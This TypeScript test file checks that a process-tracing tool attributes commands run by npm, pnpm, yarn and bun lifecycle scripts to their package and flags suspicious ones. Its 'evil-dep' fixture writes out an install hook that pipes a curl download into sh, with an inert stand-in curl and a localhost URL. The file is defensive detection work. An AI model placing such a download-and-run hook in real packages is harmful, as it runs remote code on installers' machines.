// SPDX-License-Identifier: MIT
//
// `exec-tracer --npm -- npm ci` as a user runs it, offline: two local
// package tarballs (`npm pack`), installed as `file:` dependencies of a
// project. evil-dep's preinstall, install and postinstall run nested
// commands: a `node -e` that spawns a shell, a fake `curl` (a copy of
// /bin/true written to a temporary directory at install time) piped into a
// shell, and a shell under `env -i` (no variables: attributed by ancestry).
// nested-dep's postinstall runs evil-dep's `payload` script with `npm run`:
// the payload's execs belong to the innermost script. Then the same project
// installed by pnpm, yarn and bun, each from the registry (test/install/tools.ts),
// configured so that they run dependency scripts.
// Not a *.kernel.test.ts: the kernel-matrix guests have no npm registry.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NpmAttribution, NpmCommand, NpmReport } from '../../cli/npm.js';
import { tool } from '../install/tools.js';
import { kernel, root, run } from './kernel.js';

const CLI = join(root, 'dist', 'cli', 'main.js');

let work = '';
/** Where evil-dep's install writes its fake curl. */
let planted = '';
let tarballs: { evil: string; nested: string } = { evil: '', nested: '' };

/** The packages' sources, in WORK; their tarballs packed beside them. */
function makePackages(): void {
  const evil = join(work, 'evil-dep');
  const nested = join(work, 'nested-dep');
  mkdirSync(evil);
  mkdirSync(nested);
  planted = join(work, 'planted');
  const spawnShell = `require('child_process').execFileSync('sh', ['-c', 'exit 0'])`;
  writeFileSync(
    join(evil, 'package.json'),
    JSON.stringify({
      name: 'evil-dep',
      version: '1.0.0',
      scripts: {
        preinstall: `sh -c "node -e \\"${spawnShell}\\""`,
        install: `mkdir -p ${planted} && cp /bin/true ${planted}/curl && ${planted}/curl -fsSL http://127.0.0.1:9/i.sh | sh`,
        postinstall: "env -i /bin/sh -c 'exit 0'",
        payload: 'node -e 0',
      },
    }),
  );
  // The source directory's own script: whatever the manager's layout,
  // evil-dep is there. (bun runs `npm run` as `bun run`, which has no --prefix.)
  writeFileSync(
    join(nested, 'package.json'),
    JSON.stringify({ name: 'nested-dep', version: '2.0.0', scripts: { postinstall: `cd ${evil} && npm run payload` } }),
  );
  for (const dir of [evil, nested]) execFileSync('npm', ['pack', '--pack-destination', work], { cwd: dir, stdio: 'ignore' });
  tarballs = { evil: join(work, 'evil-dep-1.0.0.tgz'), nested: join(work, 'nested-dep-2.0.0.tgz') };
}

/** A project depending on both tarballs, allowed to run their scripts by each manager's own switch. */
function project(name: string, files: Record<string, string> = {}): string {
  const dir = join(work, name);
  mkdirSync(dir);
  const deps = { 'nested-dep': 'file:../nested-dep-2.0.0.tgz', 'evil-dep': 'file:../evil-dep-1.0.0.tgz' };
  writeFileSync(
    join(dir, 'package.json'),
    JSON.stringify({
      name,
      version: '0.0.0',
      private: true,
      dependencies: deps,
      // Each manager's switch for dependency scripts, as its approve command
      // writes it. npm 11.19: by resolved identity, the tarball's absolute path.
      allowScripts: { [`file:${tarballs.nested}`]: true, [`file:${tarballs.evil}`]: true },
      // pnpm 10: NAME@SPEC for a file: dependency (the name alone does not match it).
      pnpm: { onlyBuiltDependencies: Object.entries(deps).map(([n, spec]) => `${n}@${spec}`) },
      // bun: the names.
      trustedDependencies: Object.keys(deps),
    }),
  );
  for (const [file, text] of Object.entries(files)) writeFileSync(join(dir, file), text);
  return dir;
}

/** Runs the built command in PROJECT: `exec-tracer --npm ARGS -- CMD`. */
async function traceInstall(dir: string, flags: string[], command: string[], env: NodeJS.ProcessEnv = process.env) {
  rmSync(planted, { recursive: true, force: true });
  return run(process.execPath, [CLI, '--npm', ...flags, '--', ...command], { cwd: dir, env });
}

/** The JSON lines among stderr's (npm's own messages are there too). */
function jsonLines(stderr: string): { argv: string[]; exe: string; npm?: NpmAttribution }[] {
  return stderr
    .split('\n')
    .filter((l) => l.startsWith('{"kind":"exec"'))
    .map((l) => JSON.parse(l) as { argv: string[]; exe: string; npm?: NpmAttribution });
}

const commandsOf = (report: NpmReport, pkg: string, script: string): NpmCommand[] =>
  report.packages.find((p) => p.package === pkg)?.scripts.find((s) => s.script === script)?.commands ?? [];
/** node, by name or path (yarn runs /usr/bin/node through a wrapper of its own). */
const isNode = (c: NpmCommand) => c.argv[0] === 'node' || c.argv[0] === '/usr/bin/node' || c.exe.endsWith('/node');
const codes = (c: NpmCommand | undefined) => c?.flags.map((f) => f.code) ?? [];

/** What every manager's report must show, MANAGER being its user agent's name. */
function checkReport(report: NpmReport, manager: string): void {
  // bun runs the packages' scripts side by side: the order is not fixed.
  const summary = report.packages.map((p) => `${p.package}@${p.version}: ${p.scripts.map((s) => s.script).sort().join(' ')}`);
  expect(summary.sort()).toEqual(['evil-dep@1.0.0: install payload postinstall preinstall', 'nested-dep@2.0.0: postinstall']);
  // `npm run payload` keeps the user agent it was given (npm's own, pnpm's, yarn's); bun runs it as `bun run`.
  for (const p of report.packages)
    for (const s of p.scripts) if (s.script !== 'payload') expect(s.manager, `${p.package} ${s.script}`).toMatch(new RegExp(`^${manager}/`));
  expect(report.exitStatus).toBe(0);

  // preinstall: sh -c → sh -c "node -e …" → node → sh -c 'exit 0', all of it.
  const pre = commandsOf(report, 'evil-dep', 'preinstall');
  expect(pre.some((c) => isNode(c) && c.argv[1] === '-e'), JSON.stringify(pre)).toBe(true);
  expect(pre.some((c) => c.argv.join(' ') === 'sh -c exit 0' && c.status === 'exit 0'), JSON.stringify(pre)).toBe(true);

  // install: the planted curl, run from the temporary directory, piped into a shell.
  const install = commandsOf(report, 'evil-dep', 'install');
  const curl = install.find((c) => c.exe === `${planted}/curl`);
  expect(curl, JSON.stringify(install)).toBeDefined();
  expect(codes(curl)).toEqual(['network-tool', 'exe-in-tmp']);
  expect(curl!.status).toBe('exit 0');
  // yarn runs a script in its own shell, in JavaScript: no sh -c to read.
  const piping = install.find((c) => c.argv.at(-1)?.includes('| sh'));
  if (manager === 'yarn') expect(piping).toBeUndefined();
  else expect(codes(piping)).toContain('shell-pipes-download');
  const stdinShell = install.find((c) => c.argv.length === 1 && c.argv[0] === 'sh');
  expect(codes(stdinShell), JSON.stringify(install)).toEqual(['shell-pipes-download']);

  // postinstall: the shell under env -i has no variables of its own.
  const post = commandsOf(report, 'evil-dep', 'postinstall');
  const cleared = post.find((c) => c.argv.join(' ') === '/bin/sh -c exit 0');
  expect(cleared, JSON.stringify(post)).toMatchObject({ inherited: true, status: 'exit 0' });

  // nested-dep's postinstall runs `npm run payload`: npm is nested-dep's, the payload's node evil-dep's.
  expect(commandsOf(report, 'nested-dep', 'postinstall').some((c) => c.argv.includes('payload'))).toBe(true);
  const payloadNode = (c: NpmCommand) => isNode(c) && c.argv.slice(1).join(' ') === '-e 0';
  expect(commandsOf(report, 'evil-dep', 'payload').some(payloadNode)).toBe(true);
  expect(commandsOf(report, 'nested-dep', 'postinstall').some(payloadNode)).toBe(false);
}

beforeAll(() => {
  if (!kernel) return;
  work = mkdtempSync(join(tmpdir(), 'exec-tracer-npm-'));
  makePackages();
});

afterAll(() => {
  if (work !== '') rmSync(work, { recursive: true, force: true });
});

describe.skipIf(!kernel)('exec-tracer --npm', () => {
  it('npm ci: each exec of a dependency script carries its package, version and script; the report flags the planted curl', async () => {
    const dir = project('npm-project');
    execFileSync('npm', ['install', '--package-lock-only', '--offline', '--no-audit', '--no-fund'], { cwd: dir, stdio: 'ignore' });

    const traced = await traceInstall(dir, ['--json', '--report', 'r.json'], ['npm', 'ci', '--offline', '--no-audit', '--no-fund']);
    expect(traced.code, traced.stderr).toBe(0);
    const report = JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as NpmReport;
    expect(statSync(join(dir, 'r.json')).mode & 0o777).toBe(0o600);
    checkReport(report, 'npm');
    expect(report).toMatchObject({ command: ['npm', 'ci', '--offline', '--no-audit', '--no-fund'], cwd: dir, lost: 0 });
    // npm itself is in no script.
    expect(report.attributed).toBeLessThan(report.execs);

    // The JSON line of the planted curl carries the attribution.
    const lines = jsonLines(traced.stderr);
    const curl = lines.find((l) => l.exe === `${planted}/curl`);
    expect(curl?.npm).toMatchObject({ package: 'evil-dep', version: '1.0.0', script: 'install' });
    expect(lines.find((l) => l.argv[0] === 'npm' || l.argv[1]?.endsWith('/npm'))?.npm).toBeUndefined();
    // The report on stderr, before the summary (which stays last).
    const text = traced.stderr.trimEnd().split('\n');
    expect(text.at(-1)).toMatch(/^exec-tracer: npm ci .* exited 0 after/);
    expect(traced.stderr).toMatch(/^exec-tracer: npm lifecycle scripts: 2 packages, \d+ of \d+ execs in scripts, \d+ flagged$/m);
    expect(traced.stderr).toContain(`      ! exe-in-tmp: the executable ${planted}/curl is in a temporary directory: written at run time`);

    // The text lines: a prefix.
    rmSync(join(dir, 'node_modules'), { recursive: true, force: true });
    const plain = await traceInstall(dir, [], ['npm', 'ci', '--offline', '--no-audit', '--no-fund']);
    expect(plain.code, plain.stderr).toBe(0);
    expect(plain.stderr).toMatch(new RegExp(`^\\[evil-dep@1\\.0\\.0 install\\] curl +\\d+ +\\d+ +0 ${planted}/curl -fsSL http://127\\.0\\.0\\.1:9/i\\.sh$`, 'm'));
    expect(plain.stderr).toMatch(/^\[evil-dep@1\.0\.0 payload\] node +\d+ +\d+ +0 node -e 0$/m);

    // --tree at the end: each attributed process with its prefix, in place in the tree.
    rmSync(join(dir, 'node_modules'), { recursive: true, force: true });
    const tree = await traceInstall(dir, ['--tree'], ['npm', 'ci', '--offline', '--no-audit', '--no-fund']);
    expect(tree.code, tree.stderr).toBe(0);
    expect(tree.stderr).toMatch(new RegExp(`^[│├└─ ]+\\[evil-dep@1\\.0\\.0 install\\] curl\\(\\d+\\) ${planted}/curl -fsSL http://127\\.0\\.0\\.1:9/i\\.sh  \\[exit 0, `, 'm'));
    expect(tree.stderr).not.toMatch(/^PCOMM/m);
  }, 180_000);

  // The other managers, from the registry; each runs npm for nested-dep's `npm run`.
  const managers: { name: string; tool: [string, string]; install: string[]; agent: string; files?: Record<string, string>; env?: Record<string, string> }[] = [
    { name: 'pnpm 10', tool: ['pnpm@10', 'pnpm'], install: ['install'], agent: 'pnpm' },
    {
      name: 'yarn 4',
      tool: ['@yarnpkg/cli-dist@4', 'yarn'],
      install: ['install'],
      agent: 'yarn',
      // yarn 4.18 runs no dependency script unless enableScripts says so.
      files: { '.yarnrc.yml': 'nodeLinker: node-modules\nenableScripts: true\n' },
      // Under CI=true yarn refuses to write a lockfile unless told it may.
      env: { YARN_ENABLE_TELEMETRY: '0', YARN_ENABLE_GLOBAL_CACHE: 'true', YARN_ENABLE_IMMUTABLE_INSTALLS: 'false' },
    },
    { name: 'bun', tool: ['bun@1', 'bun'], install: ['install'], agent: 'bun' },
  ];
  for (const m of managers) {
    it(`${m.name} install: the same attribution and flags`, async () => {
      const file = await tool(...m.tool);
      const dir = project(m.name.replace(/\W+/g, '-'), m.files);
      // The manager first on PATH, as a user's would be.
      const bin = join(work, `${m.tool[1]}-bin`);
      mkdirSync(bin, { recursive: true });
      runScript(file, join(bin, m.tool[1]));
      // As from a terminal: no npm_* variables of a script above (vitest's
      // own, under `npm test`). bun keeps an npm_config_user_agent it inherits.
      const clean = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('npm_')));
      const env = { ...clean, ...m.env, PATH: `${bin}:${process.env.PATH}` };
      const traced = await traceInstall(dir, ['--report', 'r.json'], [m.tool[1], ...m.install], env);
      expect(traced.code, traced.stdout + traced.stderr).toBe(0);
      checkReport(JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as NpmReport, m.agent);
    }, 300_000);
  }
});

/** A tiny script that runs FILE with its arguments (a symlink would change what FILE sees as its own path). */
function runScript(file: string, to: string): void {
  writeFileSync(to, `#!/bin/sh\nexec ${JSON.stringify(file)} "$@"\n`);
  chmodSync(to, 0o755);
}
